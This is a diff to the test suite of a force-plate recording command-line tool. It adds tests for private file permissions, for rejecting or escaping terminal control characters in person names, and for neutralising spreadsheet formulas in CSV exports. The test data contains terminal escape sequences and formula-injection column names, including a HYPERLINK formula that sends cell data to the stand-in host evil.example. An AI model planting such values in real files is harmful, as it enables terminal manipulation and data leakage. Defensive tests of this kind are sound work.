@@ -3,6 +3,7 @@ import json
 import os
 import resource
 import signal
+import stat
 import subprocess
 import sys
 
@@ -128,3 +129,60 @@ def test_an_export_to_a_folder_it_cannot_write_or_a_full_disk_exits_2_and_leaves
     assert list(out.iterdir()) == []
     with Store(tmp_path) as store:
         assert store.integrity_check() == "ok"
+
+
+def _mode(path):
+    return stat.S_IMODE(os.stat(path).st_mode)
+
+
+def test_record_makes_a_data_folder_only_its_owner_can_read_whatever_the_umask(tmp_path):
+    data = tmp_path / "new" / "data"
+    run = forceplate("record", "--person", "Ann", "--seconds", "1", "--source", SIM_HEEL_DROPS, data_dir=data,
+                     preexec_fn=lambda: os.umask(0))          # the loosest umask: files would be 0666
+    assert run.returncode == 0, run.stderr
+    assert _mode(data) == 0o700
+    assert _mode(data / "forceplate.db") == 0o600
+    with Store(data) as store:                                 # -wal and -shm exist while a store is open
+        store.people()
+        for suffix in ("-wal", "-shm"):
+            assert _mode(f"{store.path}{suffix}") == 0o600
+
+
+def test_record_refuses_a_name_with_a_terminal_escape(tmp_path):
+    assert "control or invisible" in _one_line_error(
+        forceplate("record", "--person", "Ann\x1b]0;owned\x07", "--source", SIM_HEEL_DROPS, data_dir=tmp_path))
+
+
+def test_sessions_on_a_terminal_escapes_control_characters_of_names_stored_before_the_rule(tmp_path):
+    forceplate("record", "--person", "Ann", "--seconds", "1", "--source", SIM_HEEL_DROPS, data_dir=tmp_path)
+    with Store(tmp_path) as store:                 # as an older version could store it
+        store.db.execute("UPDATE people SET name = ? WHERE id = 1", ["Ann\x1b[2J\x9b31m\u200b"])
+        store.db.conn.commit()
+    run = forceplate("sessions", data_dir=tmp_path)
+    assert run.returncode == 0, run.stderr
+    assert "\x1b" not in run.stdout and "\x9b" not in run.stdout and "\u200b" not in run.stdout
+    assert "Ann\\x1b[2J\\x9b31m\\u200b" in run.stdout
+    listed = json.loads(forceplate("sessions", "--json", data_dir=tmp_path).stdout)   # JSON keeps the name as is
+    assert listed[0]["person"] == "Ann\x1b[2J\x9b31m\u200b"
+
+
+def test_an_export_shows_formula_like_column_names_as_text_and_analyze_still_reads_it(tmp_path):
+    rows = (tmp_path / "dj.csv")
+    source = (DATA_DIR / "gidiel_vj_single_dj.csv").read_text().splitlines()
+    evil = ['=HYPERLINK("http://evil.example/?"&A2)_n', "+1+1_n", "-2+3_n", "@SUM(A1)_n", "fz_n"]
+    body = [line.split(",") for line in source[1:]]
+    # the recording's force split over five cells, named as a hostile file might name them
+    rows.write_text(",".join(["t_s", *evil]) + "\n" + "".join(
+        f"{t},{','.join([repr(float(f) / 5)] * 5)}\n" for t, f in body))
+    run = forceplate("record", "--person", "Ann", "--source", f"replay:{rows}?speed=8", data_dir=tmp_path)
+    assert run.returncode == 0, run.stderr
+    live = [e for e in lines(run.stdout) if e["kind"] != "summary"]
+    exported = forceplate("export", "1", "--out", str(tmp_path / "out"), data_dir=tmp_path)
+    assert exported.returncode == 0, exported.stderr
+    csv_path = exported.stdout.split()[0]
+    with open(csv_path, encoding="utf-8") as fh:
+        header, first = fh.readline().rstrip("\n"), fh.readline()
+    assert header.split(",") == ["t_s", *("'" + name for name in evil[:4]), "fz_n"]
+    assert [float(cell) for cell in first.strip().split(",")]        # the numbers stay numbers, no quote
+    offline = _analyze(csv_path)["events"]            # contract section 2: analyze reads the export
+    assert [e["kind"] for e in offline] == [e["kind"] for e in live] == ["impact", "jump"]
